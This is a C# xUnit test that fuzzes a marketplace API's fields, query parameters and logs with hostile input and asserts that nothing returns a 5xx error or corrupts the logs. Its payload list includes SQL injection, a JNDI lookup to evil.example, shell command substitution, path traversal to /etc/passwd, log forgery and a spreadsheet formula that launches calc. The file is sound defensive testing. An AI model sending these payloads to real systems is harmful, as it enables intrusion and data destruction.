using System.Collections.Concurrent;
using System.Net.Http.Headers;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Marketplace.ServiceTests.Access;

/// <summary>
/// Text that means something to a database, a shell, a log or a parser, in every field of every row of the table and in everything that an address asks for. Nothing breaks, the
/// logs stay one record a line, and afterwards all is there.
/// </summary>
[Collection(nameof(Accounts.SameWorkTests))]
public sealed class HostileTextTests
{
    private static readonly string[] Hostile =
    [
        "'; drop table account; --", "' or '1'='1", "1); select pg_sleep(10); --", "$1 @Now :p \\' %s%n{0}", "${jndi:ldap://evil.example/a}", "$(reboot) `reboot`", "../../../../etc/passwd",
        "line\r\n{\"LogLevel\":\"Critical\",\"Message\":\"forged\"}", "\u001b[2J\u0007", "NUL\0here", "\u202eright\ufeff\u2028", "\ud800", "<script>alert(1)</script>", "=cmd|' /C calc'!A0",
    ];

    /// <summary>What takes a number, a time, a list or nothing may be sent anything too.</summary>
    private static readonly string[] HostileJson = ["null", "-1", "1e308", "99999999999999999999", "true", "[]", "{}", "[[\"a\"]]"];

    /// <summary>What addresses can be asked for: texts in one request, and what is read as a number in another, which may end at the first.</summary>
    private static readonly string[][] Asked =
    [
        ["sort", "kind", "of", "until", "amount", "destination", "width", "back", "name", "v", "handler"],
        ["page", "before", "upTo", "added", "issued", "after", "limit", "tied", "review", "task"],
    ];

    [Fact]
    public async Task It_is_only_text_in_every_field_in_every_address_and_in_the_logs()
    {
        using var logs = new StringWriter();
        var console = Console.Out;
        Console.SetOut(TextWriter.Synchronized(logs));
        try
        {
            await AskEverything();
        }
        finally
        {
            Console.SetOut(console);
        }

        var records = logs.ToString().Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => JsonDocument.Parse(line).RootElement).ToList();
        Assert.NotEmpty(records);
        Assert.DoesNotContain(records, r => r.GetProperty("LogLevel").GetString() is "Error" or "Critical");
    }

    private static async Task AskEverything()
    {
        var clock = new DrivenClock();
        await using var services = await AllServices.Start(clock, "--SignIn:PerAddressAndMinute=1000000", "--SignIn:Tries=1000000", "--Logging:Console=true", "--Logging:LogLevel:Microsoft=Warning", "--Logging:LogLevel:Yarp=Warning");
        using var http = new HttpClient(new SocketsHttpHandler { UseCookies = false, AllowAutoRedirect = false })
        {
            BaseAddress = services.Address,
            DefaultRequestHeaders = { Accept = { new MediaTypeWithQualityHeaderValue("application/json") } },
        };
        var cast = await Cast.SignUp(http, clock);
        var things = new Things(http, cast, clock);
        await things.Prepare();

        var broken = new ConcurrentQueue<string>();
        foreach (var row in AccessRow.ReadAll().Where(r => r.Section != "health" && !r.Sends.StartsWith("{a ", StringComparison.Ordinal) && !r.Address.Contains("/events", StringComparison.Ordinal)))
        {
            var asker = row.IsGranted(Asker.Worker) ? Asker.Worker : Asker.Requester;
            var fourAtATime = new ParallelOptions { MaxDegreeOfParallelism = 4, CancellationToken = TestContext.Current.CancellationToken };
            await Parallel.ForEachAsync(Variants(row, things), fourAtATime, async (request, cancel) =>
            {
                using (request)
                {
                    request.Headers.Authorization = cast.Shows(asker, row);
                    using var answer = await http.SendAsync(request, HttpCompletionOption.ResponseHeadersRead, cancel);
                    if ((int)answer.StatusCode >= 500)
                        broken.Enqueue($"{(int)answer.StatusCode} {row.Verb} {request.RequestUri} {(request.Content is null ? "" : await request.Content.ReadAsStringAsync(cancel))}");
                }
            });
        }

        Assert.True(broken.IsEmpty, $"{broken.Count} broke:\n" + string.Join('\n', broken.Take(40)));
        Assert.Contains("Name the bird", await things.Text(Asker.Requester, await things.Fill("/api/jobs/{job}")), StringComparison.Ordinal);
        Assert.Contains("\"balanceMicros\":", await things.Text(Asker.Worker, "/earnings"), StringComparison.Ordinal);
    }

    /// <summary>The row's request with one hostile text at a time: in each field, in everything an address asks for, and as the key of what is done once.</summary>
    private static async IAsyncEnumerable<HttpRequestMessage> Variants(AccessRow row, Things things)
    {
        var address = await things.Fill(row.Address);
        var join = address.Contains('?', StringComparison.Ordinal) ? "&" : "?";
        if (!row.Changes)
        {
            foreach (var text in Hostile.Where(t => t != "\ud800"))
                foreach (var names in Asked)
                    yield return new(row.Method, address + join + string.Join('&', names.Select(name => $"{name}={Uri.EscapeDataString(text)}")));
            yield break;
        }

        if (row.IsForm)
        {
            var fields = (await things.Fill(row.Sends)).Split('&', StringSplitOptions.RemoveEmptyEntries).Where(f => f.Contains('=', StringComparison.Ordinal)).Select(f => f.Split('=', 2)).ToList();
            foreach (var text in Hostile.Where(t => t != "\ud800"))
                foreach (var changed in fields.Select(f => f[0]).Append("Idempotency-Key"))
                    yield return new(row.Method, address)
                    {
                        Content = new FormUrlEncodedContent(fields.Where(f => f[0] != changed).Select(f => KeyValuePair.Create(f[0], Uri.UnescapeDataString(f[1]))).Append(KeyValuePair.Create(changed, text))),
                    };
            yield break;
        }

        if (!row.Sends.StartsWith('{'))
            yield break;
        var whole = JsonNode.Parse(await things.Fill(row.Sends))!.AsObject();
        foreach (var value in Hostile.Select(t => $"\"{string.Concat(t.Select(c => $"\\u{(int)c:x4}"))}\"").Concat(HostileJson))
        {
            foreach (var field in whole.Select(f => f.Key))
            {
                var others = whole.Where(f => f.Key != field).Select(f => $"{JsonSerializer.Serialize(f.Key)}:{f.Value?.ToJsonString() ?? "null"}");
                var request = new HttpRequestMessage(row.Method, address)
                {
                    Content = new StringContent($"{{{string.Join(',', others.Append($"{JsonSerializer.Serialize(field)}:{value}"))}}}", new MediaTypeHeaderValue("application/json")),
                };
                request.Headers.Add("Idempotency-Key", Guid.NewGuid().ToString());
                yield return request;
            }
        }
    }
}
